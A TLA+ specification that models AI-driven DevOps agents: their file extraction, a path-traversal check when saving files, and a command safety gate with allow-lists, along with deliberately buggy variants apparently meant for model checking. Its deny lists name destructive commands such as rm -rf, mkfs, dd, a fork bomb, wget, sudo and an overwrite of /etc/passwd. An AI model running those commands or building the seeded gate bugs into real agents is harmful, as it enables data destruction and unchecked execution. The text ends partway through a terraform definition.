---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of the native-os agents: the response extractor, the           *)
(* persistence step, the command safety gate and the run procedures that  *)
(* drive external tools.                                                   *)
(*                                                                         *)
(* Python strings are TLA+ strings; TLC evaluates Len, SubSeq, Head, Tail  *)
(* and \o on them.  The backquote character (ASCII 96) cannot be written   *)
(* in a TLA+ string, so the model writes the apostrophe ' wherever the     *)
(* source has a backquote; the apostrophe occurs in no other string of the *)
(* model, so the renaming is one-to-one.                                   *)
(* Python's None is the empty tuple <<>> and a present value s is <<s>>.   *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    agent,      \* the agent script that is running
    pc,         \* position of the running operation
    gateLog,    \* history: every call of check_command_safety, in order
    spawns,     \* history: every call of subprocess.run, in order
    result,     \* the value the last execute_command returned
    response,   \* the text extract_files was called with
    lines,      \* extract_files: response.split("\n")
    idx,        \* extract_files: index of the next line of the for loop
    scan,       \* extract_files: current_file, current_content, in_code_block
    files,      \* extract_files: the list of artifacts found so far
    base_dir,   \* save_files: the directory the artifacts are written under
    k,          \* index of the next element of the for loop that is running
    fs,         \* the file system: directories, file contents, modes
    saved_files,\* save_files: the list of paths it returns
    writes,     \* history: every file written, in order
    prompts,    \* history: every question put to the operator, with the answer
    env,        \* run: the local variables of run that later steps read
    config,     \* the fields __init__ sets from the environment variables
    provider,   \* the backend the generate_ function has chosen
    attempt,    \* provider call: the variable of "for attempt in range(...)"
    posts,      \* history: every requests.post of a provider call, in order
    reply,      \* the value the provider call returned
    extracts,   \* history: every call of extract_files that returned, in order
    script_path,        \* apply_optimization: the script to change
    suggested_changes,  \* apply_optimization: the list of replacements
    backup_path,        \* apply_optimization: what create_backup returned
    updated_content     \* apply_optimization: the text after the replacements

execVars == <<gateLog, spawns, result>>
extractVars == <<response, lines, idx, scan, files, extracts>>
saveVars == <<base_dir, k, fs, saved_files, writes>>
runVars == <<prompts, env>>
providerVars == <<config, provider, attempt, posts, reply>>
evolverVars == <<script_path, suggested_changes, backup_path, updated_content>>
vars == <<agent, pc, gateLog, spawns, result, response, lines, idx, scan, files,
          base_dir, k, fs, saved_files, writes, prompts, env,
          config, provider, attempt, posts, reply, extracts,
          script_path, suggested_changes, backup_path, updated_content>>

None == <<>>
Some(s) == <<s>>

(***************************************************************************)
(* Python string primitives                                                *)
(***************************************************************************)

\* str.startswith
StartsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, 1, Len(p)) = p

\* str.endswith
EndsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, Len(s) - Len(p) + 1, Len(s)) = p

\* str.find, 1-based, 0 when p does not occur at or after position i
FindFrom(s, p, i) ==
    LET hits == {j \in i..(Len(s) - Len(p) + 1) : SubSeq(s, j, j + Len(p) - 1) = p}
    IN  IF hits = {} THEN 0 ELSE CHOOSE j \in hits : \A h \in hits : j <= h

\* A bug the containment test could have: the pattern is looked for at the
\* start of the command only.
ContainsAtStartOnly(s, p) == StartsWith(s, p)

\* the operator "p in s" on strings
Contains(s, p) == FindFrom(s, p, 1) # 0

\* the characters str.strip() and str.split() treat as whitespace
IsSpace(c) == c \in {" ", "\t", "\n", "\r"}

RECURSIVE LStrip(_)
LStrip(s) == IF s # "" /\ IsSpace(Head(s)) THEN LStrip(Tail(s)) ELSE s

RECURSIVE RStrip(_)
RStrip(s) ==
    IF s # "" /\ IsSpace(SubSeq(s, Len(s), Len(s)))
    THEN RStrip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* str.strip()
Strip(s) == LStrip(RStrip(s))

\* length of the leading run of non-whitespace characters
TokenLen(s) ==
    LET stops == {j \in 1..Len(s) : IsSpace(SubSeq(s, j, j))}
    IN  IF stops = {} THEN Len(s)
        ELSE (CHOOSE j \in stops : \A h \in stops : j <= h) - 1

\* str.split() with no argument: the whitespace-separated tokens
RECURSIVE SplitWhitespace(_)
SplitWhitespace(s) ==
    LET t == LStrip(s) IN
    IF t = "" THEN <<>>
    ELSE LET n == TokenLen(t) IN
         <<SubSeq(t, 1, n)>> \o SplitWhitespace(SubSeq(t, n + 1, Len(t)))

\* str.split(sep)
RECURSIVE Split(_, _)
Split(s, sep) ==
    LET i == FindFrom(s, sep, 1) IN
    IF i = 0 THEN <<s>>
    ELSE <<SubSeq(s, 1, i - 1)>> \o Split(SubSeq(s, i + Len(sep), Len(s)), sep)

\* sep.join(parts)
RECURSIVE Join(_, _)
Join(parts, sep) ==
    IF Len(parts) = 0 THEN ""
    ELSE IF Len(parts) = 1 THEN parts[1]
    ELSE parts[1] \o sep \o Join(Tail(parts), sep)

UpperLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerLetters == "abcdefghijklmnopqrstuvwxyz"

LowerChar(c) ==
    LET i == FindFrom(UpperLetters, c, 1) IN
    IF i = 0 THEN c ELSE SubSeq(LowerLetters, i, i)

\* str.lower(), character by character
RECURSIVE Lower(_)
Lower(s) ==
    IF s = "" THEN ""
    ELSE IF Len(s) = 1 THEN LowerChar(s)
    ELSE Lower(SubSeq(s, 1, Len(s) \div 2)) \o Lower(SubSeq(s, Len(s) \div 2 + 1, Len(s)))

(***************************************************************************)
(* The command safety gate                                                 *)
(***************************************************************************)

Agents == {"ansible", "docker", "k8s", "terraform", "code", "infra"}
GateAgents == {"ansible", "docker", "k8s", "terraform", "infra"}
\* the four agents whose extract_files, save_files, check_command_safety and
\* execute_command are the same text but for the allow-list
ToolAgents == {"ansible", "docker", "k8s", "terraform"}

\* dangerous_patterns / dangerous_keywords, in the order of the source list
dangerous_patterns(a) ==
    IF a = "infra"
    THEN << "rm -rf", "rmdir", "mkfs", "dd if=", "dd of=",
            "> /dev", "format", "fdisk", "mkfs", "wget", "curl -o",
            "sudo", "su -", "chmod 777", "> /etc/passwd" >>
    ELSE << "rm -rf", "rmdir", "mkfs",
            "> /dev", "dd if",
            ":(){:|:&};:", "wget", "curl -o",
            "sudo", "su" >>

\* allowed_commands; the infra agent's gate has none
allowed_commands(a) ==
    CASE a = "ansible"   -> << "ansible-playbook", "ansible" >>
      [] a = "docker"    -> << "docker", "docker-compose" >>
      [] a = "k8s"       -> << "kubectl", "helm", "kustomize" >>
      [] a = "terraform" -> << "terraform" >>
      [] OTHER           -> << >>

Range(f) == {f[i] : i \in DOMAIN f}

\* the loop "for pattern in dangerous_patterns: if pattern in command":
\* index of the first pattern the command contains, 0 when there is none
RECURSIVE FirstDangerous(_, _, _)
FirstDangerous(pats, command, i) ==
    IF i > Len(pats) THEN 0
    ELSE IF Contains(command, pats[i]) THEN i
    ELSE FirstDangerous(pats, command, i + 1)

DangerMessage(a) ==
    IF a = "infra"
    THEN "Command contains potentially dangerous operation: "
    ELSE "Command contains potentially dangerous pattern: "

\* A bug check_command_safety could have: the allow-list is compared with the
\* whole command, not with its first token.
check_command_safety_whole(a, command) ==
    LET pats == dangerous_patterns(a)
        m == FirstDangerous(pats, command, 1)
    IN  IF m # 0
        THEN [safe |-> FALSE, message |-> DangerMessage(a) \o pats[m]]
        ELSE IF Strip(command) = ""
        THEN [safe |-> FALSE, message |-> "Empty command"]
        ELSE IF Strip(command) \notin Range(allowed_commands(a))
        THEN [safe |-> FALSE,
              message |-> "Only the following commands are allowed: "
                          \o Join(allowed_commands(a), ", ")]
        ELSE [safe |-> TRUE, message |-> "Command appears safe"]

\* check_command_safety: the pair (is_safe, message)
check_command_safety(a, command) ==
    LET pats == dangerous_patterns(a)
        m == FirstDangerous(pats, command, 1)
        command_parts == SplitWhitespace(Strip(command))
    IN  IF m # 0
        THEN [safe |-> FALSE, message |-> DangerMessage(a) \o pats[m]]
        ELSE IF a = "infra"
        THEN [safe |-> TRUE, message |-> "Command appears safe"]
        ELSE IF Len(command_parts) = 0
        THEN [safe |-> FALSE, message |-> "Empty command"]
        ELSE IF command_parts[1] \notin Range(allowed_commands(a))
        THEN [safe |-> FALSE,
              message |-> "Only the following commands are allowed: "
                          \o Join(allowed_commands(a), ", ")]
        ELSE [safe |-> TRUE, message |-> "Command appears safe"]

(***************************************************************************)
(* extract_files                                                            *)
(***************************************************************************)

Fence == "'''"

\* line.startswith("## file:") or line.startswith("## File:")
IsFileMarker(line) == StartsWith(line, "## file:") \/ StartsWith(line, "## File:")

\* line.split(":", 1)[1].strip()
MarkerPath(line) ==
    LET i == FindFrom(line, ":", 1) IN Strip(SubSeq(line, i + 1, Len(line)))

\* A bug the fence test could have: no line is taken for a fence delimiter.
FenceNeverSeen(line) == FALSE

\* line.strip().startswith(three backquotes)
IsFenceStart(line) == StartsWith(Strip(line), Fence)

\* A bug the tests of current_file could have: "is not None" for truth.
NotNone(f) == f # None

\* Python truth of an optional string: neither None nor ""
Truthy(f) == f # None /\ f[1] # ""

\* the extensions table of the code agent and of the infra agent
extensions(a) ==
    IF a = "code"
    THEN [lang \in {"python", "py", "javascript", "js", "html", "css", "java",
                    "c", "cpp", "go", "rust", "typescript"} |->
             CASE lang \in {"python", "py"} -> "py"
               [] lang \in {"javascript", "js"} -> "js"
               [] lang = "rust" -> "rs"
               [] lang = "typescript" -> "ts"
               [] OTHER -> lang]
    ELSE [lang \in {"bash", "sh", "yaml", "yml", "terraform", "tf", "hcl",
                    "dockerfile", "docker", "json", "python", "py"} |->
             CASE lang \in {"bash", "sh"} -> "sh"
               [] lang \in {"terraform", "tf", "hcl"} -> "tf"
               [] lang \in {"dockerfile", "docker"} -> "Dockerfile"
               [] lang \in {"python", "py"} -> "py"
               [] OTHER -> lang]

\* extensions.get(lang.lower(), "txt")
ExtensionOf(a, lang) ==
    IF Lower(lang) \in DOMAIN extensions(a) THEN extensions(a)[Lower(lang)] ELSE "txt"

\* the fixed base name of the default file name
DefaultBase(a) == IF a = "code" THEN "generated_code." ELSE "infra."

\* {"filename": current_file, "content": "\n".join(current_content)}
Artifact(name, content) == [filename |-> name, content |-> Join(content, "\n")]

\* the locals of extract_files before the loop; out is what an iteration
\* appends to files
ScanStart == [current_file |-> None, current_content |-> <<>>,
              in_code_block |-> FALSE, out |-> <<>>]

\* A bug the marker branch could have: the fence state is left as it was.
MarkerStepKeepsFence(st, line) ==
    [current_file |-> Some(MarkerPath(line)),
     current_content |-> IF Truthy(st.current_file) THEN <<>> ELSE st.current_content,
     in_code_block |-> st.in_code_block,
     out |-> IF Truthy(st.current_file)
             THEN <<Artifact(st.current_file[1], st.current_content)>>
             ELSE <<>>]

\* the branch of the for loop that handles a "## file:" line (all agents)
MarkerStep(st, line) ==
    [current_file |-> Some(MarkerPath(line)),
     current_content |-> IF Truthy(st.current_file) THEN <<>> ELSE st.current_content,
     in_code_block |-> FALSE,
     out |-> IF Truthy(st.current_file)
             THEN <<Artifact(st.current_file[1], st.current_content)>>
             ELSE <<>>]

\* A bug the lenient loop could have: a line is kept whether a path is set
\* or not.
LenientStepKeepsAll(st, line) ==
    IF IsFileMarker(line) THEN MarkerStep(st, line)
    ELSE IF IsFenceStart(line) /\ ~st.in_code_block
    THEN [st EXCEPT !.in_code_block = TRUE, !.out = <<>>]
    ELSE IF Strip(line) = Fence /\ st.in_code_block
    THEN [st EXCEPT !.in_code_block = FALSE, !.out = <<>>]
    ELSE [st EXCEPT !.current_content = Append(@, line), !.out = <<>>]

\* one iteration of the for loop in the ansible, docker, k8s and terraform agents
LenientStep(st, line) ==
    IF IsFileMarker(line) THEN MarkerStep(st, line)
    ELSE IF IsFenceStart(line) /\ ~st.in_code_block
    THEN [st EXCEPT !.in_code_block = TRUE, !.out = <<>>]
    ELSE IF Strip(line) = Fence /\ st.in_code_block
    THEN [st EXCEPT !.in_code_block = FALSE, !.out = <<>>]
    ELSE IF Truthy(st.current_file)
    THEN [st EXCEPT !.current_content = Append(@, line), !.out = <<>>]
    ELSE [st EXCEPT !.out = <<>>]

\* one iteration of the for loop in the code agent and the infra agent
StrictStep(a, st, line) ==
    IF IsFileMarker(line) THEN MarkerStep(st, line)
    ELSE IF IsFenceStart(line)
    THEN IF st.in_code_block
         THEN IF Truthy(st.current_file)
              THEN [current_file |-> None, current_content |-> <<>>,
                    in_code_block |-> FALSE,
                    out |-> <<Artifact(st.current_file[1], st.current_content)>>]
              ELSE [st EXCEPT !.in_code_block = FALSE, !.out = <<>>]
         ELSE LET lang == Strip(SubSeq(Strip(line), 4, Len(Strip(line)))) IN
              IF ~Truthy(st.current_file) /\ lang # ""
              THEN [st EXCEPT !.in_code_block = TRUE, !.out = <<>>,
                              !.current_file =
                                  Some(DefaultBase(a) \o ExtensionOf(a, lang))]
              ELSE [st EXCEPT !.in_code_block = TRUE, !.out = <<>>]
    ELSE IF st.in_code_block /\ Truthy(st.current_file)
    THEN [st EXCEPT !.current_content = Append(@, line), !.out = <<>>]
    ELSE [st EXCEPT !.out = <<>>]

ExtractStep(a, st, line) ==
    IF a \in ToolAgents THEN LenientStep(st, line) ELSE StrictStep(a, st, line)

\* A bug the code after the loop could have: the tool agents, too, emit the
\* last artifact only when it has content.
ExtractTailNonEmptyOnly(a, st, found, text) ==
    LET last == IF Truthy(st.current_file) /\ Len(st.current_content) > 0
                THEN <<Artifact(st.current_file[1], st.current_content)>>
                ELSE <<>>
    IN  IF a = "infra" /\ Len(found) + Len(last) = 0
        THEN <<[filename |-> "README.md", content |-> text]>>
        ELSE last

\* the code after the for loop: the artifacts it appends to files
ExtractTail(a, st, found, text) ==
    LET last == IF a \in ToolAgents
                THEN IF Truthy(st.current_file)
                     THEN <<Artifact(st.current_file[1], st.current_content)>>
                     ELSE <<>>
                ELSE IF Truthy(st.current_file) /\ Len(st.current_content) > 0
                     THEN <<Artifact(st.current_file[1], st.current_content)>>
                     ELSE <<>>
    IN  IF a = "infra" /\ Len(found) + Len(last) = 0
        THEN <<[filename |-> "README.md", content |-> text]>>
        ELSE last

ExtractIdle ==
    /\ response = ""
    /\ lines = <<>>
    /\ idx = 0
    /\ scan = ScanStart
    /\ files = <<>>
    /\ extracts = <<>>

\* the statements of extract_files before the for loop
ExtractBegin(text) ==
    /\ response = text
    /\ lines = Split(text, "\n")
    /\ idx = 1
    /\ scan = ScanStart
    /\ files = <<>>
    /\ extracts = <<>>

\* one iteration of "for line in lines"
ExtractLine ==
    /\ pc = "scan"
    /\ idx <= Len(lines)
    /\ \E st \in {ExtractStep(agent, scan, lines[idx])} :
          /\ scan' = st
          /\ files' = files \o st.out
    /\ idx' = idx + 1
    /\ UNCHANGED <<providerVars, evolverVars, agent, pc, response, lines, extracts, execVars, saveVars,
                   runVars>>

\* the end of extract_files
ExtractEnd ==
    /\ pc = "scan"
    /\ idx > Len(lines)
    /\ files' = files \o ExtractTail(agent, scan, files, response)
    /\ extracts' = Append(extracts, [response |-> response, files |-> files'])
    /\ pc' = "extracted"
    /\ UNCHANGED <<providerVars, evolverVars, agent, response, lines, idx, scan, execVars, saveVars, runVars>>

(***************************************************************************)
(* save_files and the file system it writes to                             *)
(***************************************************************************)

\* os.getcwd() of the running script
Cwd == "/w"

\* str.rfind, 1-based, 0 when c does not occur
RFind(s, c, i) ==
    LET hits == {j \in 1..i : SubSeq(s, j, j) = c}
    IN  IF hits = {} THEN 0 ELSE CHOOSE j \in hits : \A h \in hits : j >= h

\* str.rstrip("/")
RECURSIVE RStripSlash(_)
RStripSlash(s) ==
    IF s # "" /\ SubSeq(s, Len(s), Len(s)) = "/"
    THEN RStripSlash(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* the loop of posixpath.normpath over the components of the path
RECURSIVE NormComps(_, _, _, _)
NormComps(comps, i, new_comps, initial_slashes) ==
    IF i > Len(comps) THEN new_comps
    ELSE LET comp == comps[i] IN
         IF comp \in {"", "."}
         THEN NormComps(comps, i + 1, new_comps, initial_slashes)
         ELSE IF \/ comp # ".."
                 \/ (initial_slashes = 0 /\ Len(new_comps) = 0)
                 \/ (Len(new_comps) > 0 /\ new_comps[Len(new_comps)] = "..")
         THEN NormComps(comps, i + 1, Append(new_comps, comp), initial_slashes)
         ELSE IF Len(new_comps) > 0
         THEN NormComps(comps, i + 1, SubSeq(new_comps, 1, Len(new_comps) - 1),
                        initial_slashes)
         ELSE NormComps(comps, i + 1, new_comps, initial_slashes)

\* posixpath.normpath
normpath(path) ==
    IF path = "" THEN "."
    ELSE LET initial_slashes ==
                 IF ~StartsWith(path, "/") THEN 0
                 ELSE IF StartsWith(path, "//") /\ ~StartsWith(path, "///") THEN 2
                 ELSE 1
             joined == Join(NormComps(Split(path, "/"), 1, <<>>, initial_slashes), "/")
             out == (IF initial_slashes = 2 THEN "//"
                     ELSE IF initial_slashes = 1 THEN "/" ELSE "") \o joined
         IN  IF out = "" THEN "." ELSE out

\* posixpath.join(a, b)
path_join(a, b) ==
    IF StartsWith(b, "/") THEN b
    ELSE IF a = "" \/ EndsWith(a, "/") THEN a \o b
    ELSE a \o "/" \o b

\* posixpath.abspath
abspath(path) ==
    normpath(IF StartsWith(path, "/") THEN path ELSE path_join(Cwd, path))

\* posixpath.dirname
dirname(p) ==
    LET i == RFind(p, "/", Len(p))
        head == SubSeq(p, 1, i)
    IN  IF head # "" /\ RStripSlash(head) # "" THEN RStripSlash(head) ELSE head

\* the directory d and every directory above it, d an absolute normal path
RECURSIVE Ancestors(_)
Ancestors(d) == IF d = "/" \/ d = "" THEN {"/"} ELSE {d} \cup Ancestors(dirname(d))

\* The file system before an agent runs: the working directory exists.
\* dirs are the directories, disk maps each regular file to its content,
\* execs are the files made executable.
FsStart == [dirs |-> {"/", Cwd}, disk |-> <<>>, execs |-> {}]

\* os.path.exists
exists(f, p) == abspath(p) \in f.dirs \/ abspath(p) \in DOMAIN f.disk

\* os.makedirs(d, exist_ok=True): the place the kernel resolves d to is
\* created with the directories above it; it raises when one of them is a
\* regular file
makedirs(f, d) ==
    LET need == Ancestors(abspath(d)) IN
    IF need \cap DOMAIN f.disk # {}
    THEN [raised |-> TRUE, fs |-> f]
    ELSE [raised |-> FALSE, fs |-> [f EXCEPT !.dirs = @ \cup need]]

\* A bug the write could have: a file that exists keeps its content.
write_file_keeps(f, p, content) ==
    [raised |-> FALSE, fs |-> [f EXCEPT !.disk = @ @@ (abspath(p) :> content)]]

\* open(p, "w") and write(content): raises when p is a directory, when its
\* last component is empty, "." or ".." (the kernel then wants a directory),
\* or when the directory of p does not exist; otherwise the file at p holds
\* content
write_file(f, p, content) ==
    LET at == abspath(p)
        last == SubSeq(p, RFind(p, "/", Len(p)) + 1, Len(p))
    IN
    IF last \in {"", ".", ".."} \/ at \in f.dirs \/ dirname(at) \notin f.dirs
    THEN [raised |-> TRUE, fs |-> f]
    ELSE [raised |-> FALSE,
          fs |-> [f EXCEPT !.disk = (at :> content) @@ @]]

\* A bug the path check could have: no path is rejected.
PathNeverRejected(a, filename) == FALSE

\* the traversal check of the ansible, docker, k8s and terraform agents:
\* safe_filename.startswith(os.path.sep) or ".." in safe_filename;
\* save_files of the code agent and of the infra agent has no check
PathRejected(a, filename) ==
    /\ a \in ToolAgents
    /\ \/ StartsWith(normpath(filename), "/")
       \/ Contains(normpath(filename), "..")

\* the path save_files opens for an artifact it does not skip
FilePath(a, base, filename) ==
    IF a \in ToolAgents THEN path_join(base, normpath(filename))
    ELSE path_join(base, filename)

\* the for loop of save_files after the traversal check, on the file system
\* f: the directory of the artifact is made and the file is written (and
\* made executable by the infra agent when it is a shell script), or an
\* exception leaves the loop
WriteOne(a, base, f, file_info) ==
    LET file_path == FilePath(a, base, file_info.filename)
        made == makedirs(f, IF a \in ToolAgents
                            THEN dirname(abspath(file_path))
                            ELSE dirname(file_path))
        written == write_file(made.fs, file_path, file_info.content)
        moded == IF a = "infra" /\ EndsWith(file_info.filename, ".sh")
                 THEN [written.fs EXCEPT !.execs = @ \cup {abspath(file_path)}]
                 ELSE written.fs
    IN  IF made.raised THEN [outcome |-> "raised", fs |-> f, path |-> file_path]
        ELSE IF written.raised
        THEN [outcome |-> "raised", fs |-> made.fs, path |-> file_path]
        ELSE [outcome |-> "saved", fs |-> moded, path |-> file_path]

\* A bug the loop could have: a rejected artifact ends the loop.
SaveOneStopsAtRejected(a, base, f, file_info) ==
    IF PathRejected(a, file_info.filename)
    THEN [outcome |-> "raised", fs |-> f, path |-> ""]
    ELSE WriteOne(a, base, f, file_info)

\* one iteration of the for loop of save_files: the artifact is skipped
\* ("continue") when the traversal check rejects it
SaveOne(a, base, f, file_info) ==
    IF PathRejected(a, file_info.filename)
    THEN [outcome |-> "skipped", fs |-> f, path |-> ""]
    ELSE WriteOne(a, base, f, file_info)

SaveIdle ==
    /\ base_dir = ""
    /\ k = 0
    /\ fs = FsStart
    /\ saved_files = <<>>
    /\ writes = <<>>

\* save_files up to its for loop: the code agent and the infra agent make
\* the base directory, the other agents go straight to the loop
SaveBegin ==
    /\ pc = "save_begin"
    /\ \E made \in {IF agent \in ToolAgents THEN [raised |-> FALSE, fs |-> fs]
                     ELSE makedirs(fs, base_dir)} :
          /\ fs' = made.fs
          /\ pc' = IF made.raised THEN "save_raised" ELSE "save"
    /\ k' = 1
    /\ saved_files' = <<>>
    /\ UNCHANGED <<providerVars, evolverVars, agent, files, base_dir, writes, response, lines, idx, scan,
                   extracts, execVars, runVars>>

\* one iteration of "for file_info in files"
SaveFile ==
    /\ pc = "save"
    /\ k <= Len(files)
    /\ \E x \in {SaveOne(agent, base_dir, fs, files[k])} :
          /\ fs' = x.fs
          /\ saved_files' = IF x.outcome = "saved"
                            THEN Append(saved_files, x.path) ELSE saved_files
          /\ writes' = IF x.outcome = "saved"
                       THEN Append(writes, [index |-> k,
                                            filename |-> files[k].filename,
                                            at |-> abspath(x.path),
                                            content |-> files[k].content])
                       ELSE writes
          /\ pc' = IF x.outcome = "raised" THEN "save_raised" ELSE "save"
    /\ k' = k + 1
    /\ UNCHANGED <<providerVars, evolverVars, agent, files, base_dir, response, lines, idx, scan,
                   extracts, execVars, runVars>>

\* the end of save_files: it returns saved_files
SaveEnd ==
    /\ pc = "save"
    /\ k > Len(files)
    /\ pc' = "saved"
    /\ UNCHANGED <<providerVars, evolverVars, agent, files, base_dir, k, fs, saved_files, writes,
                   response, lines, idx, scan, extracts, execVars, runVars>>

(***************************************************************************)
(* execute_command                                                          *)
(***************************************************************************)

\* what subprocess.run can do: exit 0 with output, exit 0 without, exit
\* non-zero, or raise
Outcomes == {"ok", "quiet", "fail", "exc"}

\* what the operator can type at a prompt
Answers == {"yes", "Y", "yep", "no", ""}

IsYes(answer) == Lower(answer) \in {"yes", "y"}

NoCwd == None

\* A bug execute_command could have: the verdict of the gate is ignored.
execute_command_unchecked(a, command, v, answer, oc) ==
    [spawned |-> TRUE,
     ret |-> [success |-> (oc \in {"ok", "quiet"}), output |-> "out",
              command |-> command]]

\* execute_command from the point where check_command_safety has returned
\* v = (is_safe, message): the value it returns (ret) and whether it reached
\* subprocess.run.  answer is what the operator types at the infra agent's
\* "Proceed?" prompt (the other agents do not prompt here); oc is what
\* subprocess.run does.
execute_command(a, command, v, answer, oc) ==
    IF ~v.safe
    THEN [spawned |-> FALSE,
          ret |-> [success |-> FALSE,
                   output |-> (IF a = "infra" THEN "" ELSE "Error: ")
                              \o "Command rejected for safety reasons: "
                              \o v.message,
                   command |-> command]]
    ELSE IF a = "infra" /\ ~StartsWith(Lower(answer), "y")
    THEN [spawned |-> FALSE,
          ret |-> [success |-> FALSE,
                   output |-> "Command execution cancelled by user",
                   command |-> command]]
    ELSE [spawned |-> TRUE,
          ret |-> [success |-> (oc \in {"ok", "quiet"}),
                   output |-> CASE oc = "ok" -> "out"
                                [] oc = "quiet" -> ""
                                [] oc = "fail" ->
                                     (IF a = "infra" THEN "out\nerr" ELSE "Error: err")
                                [] OTHER -> "Error: spawn failed",
                   command |-> command]]

\* Every way one call execute_command(command) can go: the gate is called
\* once, then the rest of the function runs on its verdict.  asked is the
\* question execute_command itself puts to the operator (infra agent only).
ExecuteCommandCalls(a, command) ==
    LET v == check_command_safety(a, command) IN
    { [gate |-> [command |-> command, safe |-> v.safe, message |-> v.message],
       asked |-> IF a = "infra" /\ v.safe
                 THEN <<[question |-> "Proceed? (y/n): ", answer |-> answer]>>
                 ELSE <<>>,
       call |-> execute_command(a, command, v, answer, oc)] :
          answer \in Answers, oc \in Outcomes }

\* One call of execute_command as a state change: the gate call, the
\* question and the spawn, if any, are appended to the histories.  A spawn
\* is recorded with the gate call that preceded it in the same function
\* (checked) and with everything the operator had answered by then (asked).
Exec(command, cwd) ==
    \E x \in ExecuteCommandCalls(agent, command) :
        /\ gateLog' = Append(gateLog, x.gate)
        /\ prompts' = prompts \o x.asked
        /\ spawns' = IF x.call.spawned
                     THEN Append(spawns, [command |-> command, cwd |-> cwd,
                                          checked |-> Some(x.gate),
                                          asked |-> prompts \o x.asked])
                     ELSE spawns
        /\ result' = Some(x.call.ret)

(***************************************************************************)
(* run: the steps of one agent run                                         *)
(***************************************************************************)

\* the project or task name the run was started with
project_name == "p"

\* the directory the constructor of the agent makes
AgentDir(a) ==
    CASE a = "ansible" -> path_join(path_join(Cwd, "infra"), "playbooks")
      [] a = "docker" -> path_join(path_join(Cwd, "infra"), "docker")
      [] a = "k8s" -> path_join(path_join(Cwd, "infra"), "k8s")
      [] a = "terraform" -> path_join(Cwd, "infra")
      [] a = "infra" -> path_join(path_join(Cwd, "output"), "infra")
      [] OTHER -> path_join(Cwd, "output")

\* task_dir / project_dir of the generate_ function
ProjectDir(a) == path_join(AgentDir(a), project_name)

NoProvider ==
    "Error: No AI provider available. Please set at least one API key for OpenAI, Claude, or DeepSeek."

\* what a provider can answer: one string per shape of run it leads to
RunResponses ==
    { "## file: site.yml\n- hosts: all\n## file: inventory\nlocalhost",
      "## file: su.yml\nkind: A\n## file: su.yml\nkind: B",
      "## file: Dockerfile\nFROM x\n## file: docker-compose.yml\nservices:",
      "## file: Chart.yaml\nname: p\n## file: main.tf\nresource",
      "## file: run.sh\n'''bash\necho hi\n'''",
      "Error: Maximum retries exceeded when contacting OpenAI API." }

\* the local variables of run that steps after their assignment read
EnvStart ==
    [cluster_connected |-> FALSE, is_helm_chart |-> FALSE,
     namespace |-> "", release_name |-> "",
     url |-> None, username |-> None, password |-> None,
     ecr_url |-> "", aws_region |-> "", script_index |-> 0,
     context_path |-> Cwd]

\* no call of apply_optimization is under way
EvolverIdle ==
    /\ script_path = ""
    /\ suggested_changes = <<>>
    /\ backup_path = None
    /\ updated_content = ""

RunIdle ==
    /\ EvolverIdle
    /\ prompts = <<>>
    /\ env = EnvStart
    /\ config = None
    /\ provider = ""
    /\ attempt = 0
    /\ posts = <<>>
    /\ reply = None

Question(q, answer) == [question |-> q, answer |-> answer]

\* result["files"]: the names of the extracted artifacts
Names == [i \in DOMAIN files |-> files[i].filename]

Min(S) == CHOOSE x \in S : \A y \in S : x <= y

\* the first element of the list names that satisfies Test, or None
First(names, Test(_)) ==
    LET hits == {i \in DOMAIN names : Test(names[i])}
    IN  IF hits = {} THEN None ELSE Some(names[Min(hits)])

IsYaml(file) == EndsWith(file, ".yml") \/ EndsWith(file, ".yaml")

\* the generate_ function of the agent up to the call of extract_files:
\* the project directory is made, the k8s agent asks kubectl for the current
\* context, and a provider answers, unless no provider is available
Generate ==
    /\ pc = "generate"
    /\ fs' = IF agent \in ToolAgents THEN makedirs(fs, ProjectDir(agent)).fs ELSE fs
    /\ base_dir' = IF agent \in ToolAgents THEN ProjectDir(agent) ELSE base_dir
    /\ spawns' = IF agent = "k8s"
                 THEN Append(spawns, [command |-> "kubectl config current-context",
                                      cwd |-> NoCwd, checked |-> None,
                                      asked |-> prompts])
                 ELSE spawns
    /\ \E text \in RunResponses \cup {NoProvider} :
          IF text = NoProvider /\ agent \in ToolAgents
          THEN /\ pc' = "done"
               /\ UNCHANGED extractVars
          ELSE /\ pc' = "scan"
               /\ response' = text
               /\ lines' = Split(text, "\n")
               /\ idx' = 1
               /\ scan' = ScanStart
               /\ files' = <<>>
               /\ UNCHANGED extracts
    /\ UNCHANGED <<providerVars, evolverVars, agent, gateLog, result, k, saved_files, writes, runVars>>

\* generate_ after extract_files: self.save_files(files, project_dir)
SaveCall ==
    /\ pc = "extracted"
    /\ agent \in ToolAgents
    /\ pc' = "save_begin"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, runVars>>

(* ansible-agent.py, run *)

IsMainPlaybook(file) ==
    /\ IsYaml(file)
    /\ \/ Contains(Lower(file), "playbook")
       \/ Contains(Lower(file), "main")
       \/ Contains(Lower(file), "site")

playbook_file(names) ==
    IF First(names, IsMainPlaybook) # None THEN First(names, IsMainPlaybook)
    ELSE First(names, IsYaml)

IsInventory(file) == Contains(Lower(file), "inventory") \/ Contains(Lower(file), "hosts")

AnsibleCommand(task_dir, names) ==
    "ansible-playbook " \o path_join(task_dir, playbook_file(names)[1])
        \o (IF First(names, IsInventory) # None
            THEN " -i " \o path_join(task_dir, First(names, IsInventory)[1])
            ELSE "")

\* the search for the playbook and the question whether to run it
AnsibleConfirm ==
    /\ pc = "saved"
    /\ agent = "ansible"
    /\ IF playbook_file(Names) = None
       THEN pc' = "done" /\ UNCHANGED prompts
       ELSE \E answer \in Answers :
               /\ prompts' = Append(prompts,
                      Question("Do you want to run the Ansible playbook?", answer))
               /\ pc' = IF IsYes(answer) THEN "ansible_run" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

AnsibleRun ==
    /\ pc = "ansible_run"
    /\ Exec(AnsibleCommand(base_dir, Names), NoCwd)
    /\ pc' = "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

(* terraform-agent.py, run *)

\* A bug the run could have: terraform plan is run whatever terraform init
\* returned.
TerraformInitGoesOn ==
    /\ pc = "saved"
    /\ agent = "terraform"
